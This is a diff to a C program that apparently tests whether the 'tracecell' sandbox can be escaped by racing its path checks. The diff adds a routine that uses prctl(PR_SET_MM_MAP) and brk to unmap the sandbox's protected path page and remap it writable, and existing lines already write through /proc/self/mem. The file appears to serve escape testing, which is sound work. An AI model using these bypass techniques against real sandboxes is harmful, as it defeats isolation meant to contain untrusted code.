@@ -16,8 +16,9 @@
 //                                        second thread opens it for reading 300 ms later
 //   race page    OKPATH VICTIM SECONDS   a thread tries every way to make tracecell's
 //                                        path page (8 GiB, 64 slots of 4096 bytes)
-//                                        writable and writes VICTIM into every slot;
-//                                        main opens OKPATH for writing
+//                                        writable (brk after PR_SET_MM_MAP included)
+//                                        and writes VICTIM into every slot; main opens
+//                                        OKPATH for writing
 //   race pagefirst OKPATH VICTIM SECONDS the program maps the page's range itself,
 //                                        writable, first; a thread writes VICTIM
 //                                        into every slot; main opens OKPATH
@@ -37,6 +38,8 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
+#include <sys/prctl.h>
+#include <linux/prctl.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/types.h>
@@ -133,6 +136,50 @@ static void fill(char *p) {
 
 static void win(void) { atomic_fetch_add(&page_wins, 1); }
 
+// take_by_brk moves the heap's bounds around the page with
+// prctl(PR_SET_MM_MAP), which needs no capability, and shrinks the heap:
+// brk unmaps whatever lies between the new and the old break. Then a mere
+// hint maps writable memory there. 0 when that worked.
+static int take_by_brk(void) {
+	FILE *f = fopen("/proc/self/stat", "r");
+	char b[4096];
+	if (!f)
+		return -1;
+	if (!fgets(b, sizeof b, f)) {
+		fclose(f);
+		return -1;
+	}
+	fclose(f);
+	char *s = strrchr(b, ')');
+	if (!s)
+		return -1;
+	unsigned long v[64] = {0};
+	int n = 0;
+	for (char *tok = strtok(s + 2, " "); tok && n < 64; tok = strtok(NULL, " "))
+		v[n++] = strtoul(tok, NULL, 10);
+	if (n < 49)
+		return -1;
+	// proc(5) fields 26-28 and 45-51, from field 3 on.
+	struct prctl_mm_map m = {
+		.start_code = v[23], .end_code = v[24], .start_stack = v[25],
+		.start_data = v[42], .end_data = v[43],
+		.start_brk = (unsigned long)PAGE_ADDR - 4096, .brk = (unsigned long)PAGE_ADDR + PAGE_SIZE_,
+		.arg_start = v[45], .arg_end = v[46], .env_start = v[47], .env_end = v[48],
+		.exe_fd = (unsigned)-1,
+	};
+	if (prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long)&m, sizeof m, 0) != 0)
+		return -1;
+	if (syscall(SYS_brk, PAGE_ADDR) != (long)PAGE_ADDR)
+		return -1;
+	char *w = mmap(PAGE_ADDR, PAGE_SIZE_, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	if (w != PAGE_ADDR) {
+		if (w != MAP_FAILED)
+			munmap(w, PAGE_SIZE_);
+		return -1;
+	}
+	return 0;
+}
+
 static void *pager(void *arg) {
 	(void)arg;
 	int mem = -1;
@@ -180,6 +227,11 @@ static void *pager(void *arg) {
 			mem = open("/proc/self/mem", O_RDWR);
 		if (mem >= 0 && pwrite(mem, pb, strlen(pb) + 1, (off_t)(2UL << 32)) > 0)
 			win();
+		// Unmap it through brk, then map there with a mere hint.
+		if (take_by_brk() == 0) {
+			win();
+			fill(PAGE_ADDR);
+		}
 	}
 	return NULL;
 }
